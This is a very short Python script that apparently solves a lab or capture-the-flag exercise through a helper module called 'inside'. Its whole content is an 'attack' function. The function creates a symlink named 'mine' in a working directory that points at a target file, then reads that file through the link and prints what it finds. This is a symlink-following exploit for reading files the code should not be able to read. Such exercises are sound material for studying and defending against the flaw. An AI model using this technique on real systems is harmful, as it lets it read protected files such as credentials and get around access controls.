import os

from inside import run, show


def attack(target):
    os.symlink(target.file, f"{target.work}/mine")
    with open(f"{target.work}/mine", "rb") as file:
        show(file.read())


run(attack)
